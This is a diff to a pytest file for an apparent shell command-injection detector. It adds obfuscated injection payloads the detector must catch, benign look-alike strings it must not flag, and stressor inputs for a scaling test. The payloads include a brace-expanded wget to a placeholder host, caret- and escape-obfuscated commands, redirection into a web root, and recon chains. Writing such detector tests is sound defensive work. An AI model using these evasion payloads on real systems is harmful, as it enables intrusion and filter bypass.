@@ -53,6 +53,22 @@ COMMANDS = [
     "powershell.exe -nop -w hidden",
     "x;(uname -a)",
     "( hostname )",
+    "{wget,-q,x.example/a}",
+    "{c\\\\u$z\\\\rl,x.example}",
+    "set nu \\!hostname",
+    "a=1&ipconfig/all",
+    "x|tasklist/v",
+    ">/tmp/.cache.sh",
+    "2>>/var/www/html/x.php",
+    "cd ${HOME%%/*}",
+    "source ./setup.sh",
+    "start payload.bat",
+    "'ll' /etc/",
+    "ping$() 203.0.113.4",
+    "netstat$u -an",
+    "&sy^ste^minfo",
+    "x|c^m^d /c ver",
+    "';hostname;'",
 ]
 
 
@@ -82,6 +98,20 @@ LOOK_ALIKES = [
     "assert(id > 0);",
     "user = load_user(id)",
     "rows.map(ls => ls.trim())",
+    "ls -la",
+    "git status",
+    "/usr/local/bin/python3",
+    "a{1,3}b",
+    "color: red !important",
+    "if (!done && !ready) return",
+    "docs/ipconfig/all.md",
+    "> /tmp is nearly full",
+    "total: ${PORT:-8080}",
+    "`${count%2}`",
+    "source of truth.md",
+    "pip install requests",
+    "x^2 + y^2 = r^2",
+    "'quarterly report'",
 ]
 
 
@@ -90,7 +120,10 @@ def test_look_alikes_are_not_commands(text: str) -> None:
     assert "webattack.cmdi" not in _high(text)
 
 
-@pytest.mark.parametrize("stressor", [";", "$u", "a ", "; ls ", "``", "'", "\\", "[a]", "|$x "])
+@pytest.mark.parametrize(
+    "stressor",
+    [";", "$u", "a ", "; ls ", "``", "'", "\\", "[a]", "|$x ", "{a,", "a{b,c}", "\\!a", "ab"],
+)
 def test_shell_reading_scales_linearly(stressor: str) -> None:
     small = stressor * (50_000 // len(stressor))
     ratio = growth(shell_signals, small, small * 4)
